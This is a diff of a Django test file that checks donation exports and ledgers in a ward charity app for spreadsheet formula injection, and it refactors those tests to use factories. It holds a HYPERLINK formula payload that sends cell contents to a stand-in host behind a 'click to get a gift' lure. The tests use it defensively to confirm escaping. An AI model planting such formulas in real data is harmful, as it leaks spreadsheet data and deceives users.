@@ -10,9 +10,9 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from campaigns import services
-from campaigns.models import Campaign
 from core.spreadsheets import safe_cell, safe_row
 from reports.models import Indicator, IndicatorGroup
+from tests import factories
 
 HOSTILE_NAME = '=HYPERLINK("http://lua-dao.example/?d="&A1,"Bấm để nhận quà")'
 
@@ -52,24 +52,12 @@ def test_a_whole_row_is_made_safe():
 # --- Exports ---------------------------------------------------------------------------------
 
 
-@pytest.fixture
-def fund(world):
-    return Campaign.objects.create(
-        name="Quỹ Vì người nghèo 2026",
-        kind="fund",
-        ward=world.ward_x,
-        starts_on=datetime.date(2026, 1, 1),
-    )
-
-
 @pytest.mark.django_db
 def test_a_donor_named_like_a_formula_comes_out_escaped_in_the_public_csv(client, world, fund):
     officer = world.users["ward_officer"]
-    services.donation_record(
-        campaign=fund,
-        ward=world.ward_x,
+    factories.donation(
+        fund_obj=fund,
         user=officer,
-        received_on=datetime.date(2026, 3, 5),
         donor_kind="organisation",
         donor_name=HOSTILE_NAME,
         amount=1_000_000,
@@ -145,9 +133,7 @@ def test_indicator_texts_are_never_formulas_in_report_workbooks(login, world, ur
 
 @pytest.mark.django_db
 def test_a_fund_named_like_a_formula_is_plain_text_in_its_ledger(login, world):
-    fund = Campaign.objects.create(
-        name="=1+1", kind="fund", ward=world.ward_x, starts_on=datetime.date(2026, 1, 1)
-    )
+    fund = factories.fund(ward_obj=world.ward_x, name="=1+1")
     client = login(world.users["ward_officer"])
     response = client.get(reverse("campaigns:ledger_xlsx", args=[world.ward_x.code, fund.pk]))
     cells = _texts(load_workbook(io.BytesIO(response.content)))
